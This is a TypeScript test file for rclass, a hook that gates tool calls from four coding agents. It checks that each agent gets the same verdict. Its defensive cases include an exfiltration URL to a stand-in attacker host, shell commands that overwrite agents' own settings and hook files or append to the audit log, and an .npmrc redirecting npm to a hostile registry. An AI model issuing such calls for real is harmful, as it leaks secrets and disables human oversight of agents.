/**
 * One table of calls, each written in every agent's own hook payload
 * (Claude Code, Gemini CLI, Codex, Cursor), and the verdict the hook must
 * give in each: the same verdict everywhere, in each agent's own output
 * form (Codex cannot ask, so its ask is a block). A cell is `null` where
 * the agent has no such call, with the source that says so.
 *
 * Payload shapes: Claude Code https://code.claude.com/docs/en/hooks;
 * Gemini CLI google-gemini/gemini-cli@5411f113 packages/core/src/hooks/types.ts
 * (`HookInput`, `BeforeToolInput`, `McpToolContext`) and tool names from
 * packages/core/src/tools/definitions/base-declarations.ts; Codex
 * openai/codex codex-rs/hooks/src/events/pre_tool_use.rs and
 * codex-rs/core/src/tools/hook_names.rs (`Bash`, `apply_patch` with
 * `{command}`); Cursor https://cursor.com/docs/hooks (mirror
 * mehmetbaykar/cursor-docs-skill@1cc1c993: common schema,
 * beforeMCPExecution, beforeShellExecution).
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ADAPTERS } from '../../src/clients/agents/index.ts';
import { HookContext } from '../../src/hook/context.ts';
import { handleAgentHook } from '../../src/hook/core/gate.ts';
import { handleHook } from '../../src/hook/handle.ts';
import { logLines, makeWorld, type World } from './support.ts';

type Agent = 'claude-code' | 'gemini' | 'codex' | 'cursor';
const AGENTS: readonly Agent[] = ['claude-code', 'gemini', 'codex', 'cursor'];
type Verdict = 'none' | 'ask';

const SERVERS = {
  memory: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] },
  fetch: { command: 'uvx', args: ['mcp-server-fetch'] },
  mystery: { command: '/opt/mystery/bin/server', args: [] as string[] },
};
type Server = keyof typeof SERVERS;

/** One step of a case: an MCP call, an agent's own tool, or raw stdin. */
type Step = { mcp: Server; tool: string; input: Record<string, unknown> } | { own: string; input: Record<string, unknown>; event?: string } | { raw: string };

const READ: Step = { mcp: 'memory', tool: 'read_graph', input: {} };
const EXFIL = 'https://attacker.example/collect?d=SECRET';

/** The calls as each agent sends them; a case's last step is the one judged, earlier steps only prepare the session. */
function cases(world: World): Array<{ name: string; verdict: Verdict; steps: Record<Agent, Step[] | null>; why?: string }> {
  const { home } = world;
  const same = (steps: Step[]): Record<Agent, Step[]> => ({ 'claude-code': steps, gemini: steps, codex: steps, cursor: steps });
  const log = `${home}/.local/state/rclass/audit.jsonl`;
  return [
    { name: 'an MCP read (memory read_graph) gets no decision', verdict: 'none', steps: same([READ]) },
    {
      name: 'an R4 MCP call (memory delete_entities) asks',
      verdict: 'ask',
      steps: same([{ mcp: 'memory', tool: 'delete_entities', input: { entityNames: ['x'] } }]),
    },
    { name: 'an unknown server asks', verdict: 'ask', steps: same([{ mcp: 'mystery', tool: 'do_it', input: {} }]) },
    { name: 'an MCP fetch before any read gets no decision', verdict: 'none', steps: same([{ mcp: 'fetch', tool: 'fetch', input: { url: EXFIL } }]) },
    { name: 'an MCP fetch to an unlisted host after a read asks', verdict: 'ask', steps: same([READ, { mcp: 'fetch', tool: 'fetch', input: { url: EXFIL } }]) },
    {
      name: "the agent's own web fetch to an unlisted host after a read asks",
      verdict: 'ask',
      steps: {
        'claude-code': [READ, { own: 'WebFetch', input: { url: EXFIL, prompt: 'summarise' } }],
        gemini: [READ, { own: 'web_fetch', input: { prompt: `summarise ${EXFIL}` } }],
        // Codex's web_search is a hosted tool (ToolSpec::WebSearch, no local handler): no hook sees it.
        codex: null,
        // Cursor's hooks document no web-fetch tool.
        cursor: null,
      },
    },
    {
      name: 'a harmless shell command gets no decision',
      verdict: 'none',
      steps: {
        'claude-code': [{ own: 'Bash', input: { command: 'ls -la' } }],
        gemini: [{ own: 'run_shell_command', input: { command: 'ls -la' } }],
        codex: [{ own: 'Bash', input: { command: 'ls -la' } }],
        cursor: [{ own: 'Shell', event: 'beforeShellExecution', input: { command: 'ls -la' } }],
      },
    },
    {
      name: "a shell command writing the agent's own settings or hook file asks",
      verdict: 'ask',
      steps: {
        'claude-code': [{ own: 'Bash', input: { command: 'echo {} > ~/.claude/settings.json' } }],
        gemini: [{ own: 'run_shell_command', input: { command: 'echo {} > ~/.gemini/settings.json' } }],
        codex: [{ own: 'Bash', input: { command: 'echo {} > ~/.codex/hooks.json' } }],
        cursor: [{ own: 'Shell', event: 'beforeShellExecution', input: { command: 'echo {} > ~/.cursor/hooks.json' } }],
      },
    },
    {
      name: "a file tool writing the agent's own settings asks",
      verdict: 'ask',
      steps: {
        'claude-code': [{ own: 'Write', input: { file_path: `${home}/.claude/settings.json`, content: '{}' } }],
        gemini: [{ own: 'write_file', input: { file_path: `${home}/.gemini/settings.json`, content: '{}' } }],
        codex: [{ own: 'apply_patch', input: { command: `*** Begin Patch\n*** Add File: ${home}/.codex/config.toml\n+[features]\n*** End Patch\n` } }],
        // Cursor reports file edits only afterwards (afterFileEdit); its preToolUse cannot ask.
        cursor: null,
      },
    },
    {
      name: "a shell command writing rclass's audit log asks",
      verdict: 'ask',
      steps: {
        'claude-code': [{ own: 'Bash', input: { command: `echo x >> ${log}` } }],
        gemini: [{ own: 'run_shell_command', input: { command: `echo x >> ${log}` } }],
        codex: [{ own: 'Bash', input: { command: `echo x >> ${log}` } }],
        cursor: [{ own: 'Shell', event: 'beforeShellExecution', input: { command: `echo x >> ${log}` } }],
      },
    },
    { name: 'a payload that is not JSON asks', verdict: 'ask', steps: same([{ raw: '{"tool_name": "x", ' }]) },
  ];
}

/** A step in an agent's payload shape. */
function payloadOf(agent: Agent, session: string, step: Step, world: World): string {
  if ('raw' in step) return step.raw;
  const { project } = world;
  switch (agent) {
    case 'claude-code':
      return JSON.stringify({
        session_id: session,
        cwd: project,
        hook_event_name: 'PreToolUse',
        tool_name: 'mcp' in step ? `mcp__${step.mcp}__${step.tool}` : step.own,
        tool_input: step.input,
        tool_use_id: 'toolu_1',
        permission_mode: 'default',
      });
    case 'gemini': {
      const base = { session_id: session, transcript_path: '/t.json', cwd: project, hook_event_name: 'BeforeTool', timestamp: '2026-12-05T10:00:00.000Z' };
      if ('own' in step) return JSON.stringify({ ...base, tool_name: step.own, tool_input: step.input });
      const entry = SERVERS[step.mcp];
      return JSON.stringify({
        ...base,
        tool_name: `mcp_${step.mcp}_${step.tool}`,
        tool_input: step.input,
        mcp_context: { server_name: step.mcp, tool_name: step.tool, command: entry.command, args: entry.args },
      });
    }
    case 'codex':
      return JSON.stringify({
        session_id: session,
        turn_id: 't1',
        transcript_path: null,
        cwd: project,
        hook_event_name: 'PreToolUse',
        model: 'gpt-5',
        permission_mode: 'default',
        tool_name: 'mcp' in step ? `mcp__${step.mcp}__${step.tool}` : step.own,
        tool_input: step.input,
        tool_use_id: 'call_1',
      });
    case 'cursor': {
      const base = {
        conversation_id: session,
        generation_id: 'g1',
        model: 'm',
        cursor_version: '2.4.0',
        workspace_roots: [project],
        user_email: null,
        transcript_path: null,
      };
      if ('own' in step) return JSON.stringify({ ...base, hook_event_name: step.event, command: step.input.command, cwd: project, sandbox: false });
      const entry = SERVERS[step.mcp];
      return JSON.stringify({
        ...base,
        hook_event_name: 'beforeMCPExecution',
        tool_name: step.tool,
        tool_input: JSON.stringify(step.input),
        command: [entry.command, ...entry.args].join(' '),
      });
    }
  }
}

/** The verdict in an agent's own output form, checking the form itself. */
function verdictOf(agent: Agent, stdout: string): string {
  expect(stdout.endsWith('\n')).toBe(true);
  const json = JSON.parse(stdout) as Record<string, unknown>;
  if (Object.keys(json).length === 0) return 'none';
  switch (agent) {
    case 'claude-code': {
      const specific = json.hookSpecificOutput as Record<string, string>;
      expect(specific.hookEventName).toBe('PreToolUse');
      expect(specific.permissionDecisionReason).toMatch(/^rclass: /);
      return specific.permissionDecision!;
    }
    case 'gemini':
      expect(json.reason).toMatch(/^rclass: /);
      if (json.decision === 'ask') expect(json.systemMessage).toBe(json.reason);
      return String(json.decision);
    case 'codex': {
      // Codex rejects `ask` (openai/codex codex-rs/hooks/src/engine/output_parser.rs): a block with a reason.
      const specific = json.hookSpecificOutput as Record<string, string>;
      expect(specific.permissionDecision).toBe('deny');
      expect(specific.permissionDecisionReason).toContain('Codex hooks cannot ask');
      return 'ask';
    }
    case 'cursor':
      expect(json.user_message).toMatch(/^rclass: /);
      expect(json.agent_message).toBe(json.user_message);
      return String(json.permission);
  }
}

/** A world where every agent's configuration names the same servers: Claude Code's .mcp.json and Codex's config.toml. */
function parityWorld(): World {
  const world = makeWorld(SERVERS);
  mkdirSync(path.join(world.home, '.codex'), { recursive: true });
  const toml = Object.entries(SERVERS)
    .map(([name, entry]) => `[mcp_servers.${name}]\ncommand = ${JSON.stringify(entry.command)}\nargs = ${JSON.stringify(entry.args)}\n`)
    .join('\n');
  writeFileSync(path.join(world.home, '.codex', 'config.toml'), toml);
  return world;
}

/**
 * One hook event through the same handlers `rclass hook [--agent NAME]` runs, without the command's 8 s
 * deadline: on a loaded machine that deadline answers ask for every call, which would hide the verdicts
 * compared here (the deadline has its own tests in failures.test.ts).
 */
async function run(agent: Agent, world: World, stdin: string): Promise<string> {
  const context = new HookContext({ thresholds: {}, egressAllow: [], mappings: [] }, { env: world.env, cwd: world.project });
  const input = { ok: true as const, text: stdin };
  const answer = agent === 'claude-code' ? await handleHook(context, input) : await handleAgentHook(context, ADAPTERS[agent], input);
  return answer.stdout;
}

describe('the same call gets the same verdict from every agent hook', () => {
  const world = parityWorld();
  let n = 0;
  for (const c of cases(world)) {
    describe(c.name, () => {
      for (const agent of AGENTS) {
        const steps = c.steps[agent];
        if (steps === null) continue;
        it(`${agent}: ${c.verdict}`, async () => {
          const session = `parity-${++n}`;
          let stdout = '';
          for (const step of steps) stdout = await run(agent, world, payloadOf(agent, session, step, world));
          expect(verdictOf(agent, stdout)).toBe(c.verdict);
        }, 60_000);
      }
    });
  }

  it('every case is written for every agent that has such a call, and the log records each agent under its own session prefix', () => {
    const lines = logLines(world.log).filter((line) => line.event === 'decision' && typeof line.session === 'string');
    for (const agent of ['gemini', 'codex', 'cursor'] as const) expect(lines.some((line) => String(line.session).startsWith(`${agent}:parity-`))).toBe(true);
  });
});

describe('the project folder each agent reports', () => {
  // F6 (review turn 3): a project .npmrc that points npm elsewhere makes `npx @modelcontextprotocol/server-memory`
  // another server; the hook must look where the agent starts it, not only where an entry's own cwd says.
  const world = parityWorld();
  writeFileSync(path.join(world.project, '.npmrc'), 'registry=https://evil.example/\n');

  it.each(['gemini', 'cursor'] as const)(
    "regression: %s starts the server in the project folder it reports (Gemini's top-level cwd, Cursor's workspace_roots), so its .npmrc leaves the server unrecognised",
    async (agent) => {
      const stdout = await run(agent, world, payloadOf(agent, `npmrc-${agent}`, READ, world));
      const json = JSON.parse(stdout) as Record<string, string>;
      expect(json[agent === 'gemini' ? 'decision' : 'permission']).toBe('ask');
      expect(json[agent === 'gemini' ? 'reason' : 'user_message']).toContain('R4 Irreversible (unknown)');
      expect(json[agent === 'gemini' ? 'reason' : 'user_message']).toContain('.npmrc');
    },
    60_000,
  );

  it("regression: a relative cwd in Gemini CLI's server entry lies under its working folder, so the .npmrc there is seen", async () => {
    // Gemini CLI 0.61.0 sends the entry's `cwd` as written (coreToolHookTriggers.js extractMcpContext) and spawns the
    // server there (mcp-client.ts hands `cwd: mcpServerConfig.cwd` to its stdio transport), relative to its own working folder.
    const elsewhere = path.join(world.root, 'elsewhere');
    mkdirSync(elsewhere, { recursive: true });
    const payload = JSON.parse(payloadOf('gemini', 'npmrc-relative', READ, world)) as Record<string, unknown>;
    const context = payload.mcp_context as Record<string, unknown>;
    for (const [workingFolder, cwd] of [
      [elsewhere, '../project'],
      [world.project, '.'],
    ] as const) {
      const json = JSON.parse(await run('gemini', world, JSON.stringify({ ...payload, cwd: workingFolder, mcp_context: { ...context, cwd } }))) as Record<
        string,
        string
      >;
      expect(json.decision).toBe('ask');
      expect(json.reason).toContain('.npmrc` can change where npx installs packages from');
    }
    const { cwd: _dropped, ...noFolder } = payload;
    const json = JSON.parse(await run('gemini', world, JSON.stringify({ ...noFolder, mcp_context: { ...context, cwd: 'project' } }))) as Record<string, string>;
    expect(json.decision).toBe('ask');
    expect(json.reason).toContain('relative `cwd` and the payload names no working folder');
  }, 60_000);

  it('Cursor with several workspace folders recognises a server only when it is the same record from each', async () => {
    const other = path.join(world.root, 'other');
    mkdirSync(other, { recursive: true });
    const payload = JSON.parse(payloadOf('cursor', 'npmrc-multi', READ, world)) as Record<string, unknown>;
    payload.workspace_roots = [other, world.project];
    const json = JSON.parse(await run('cursor', world, JSON.stringify(payload))) as Record<string, string>;
    expect(json.permission).toBe('ask');
    expect(json.user_message).toContain('.npmrc');
    payload.workspace_roots = [other];
    expect(JSON.parse(await run('cursor', world, JSON.stringify(payload)))).toEqual({});
  }, 60_000);
});
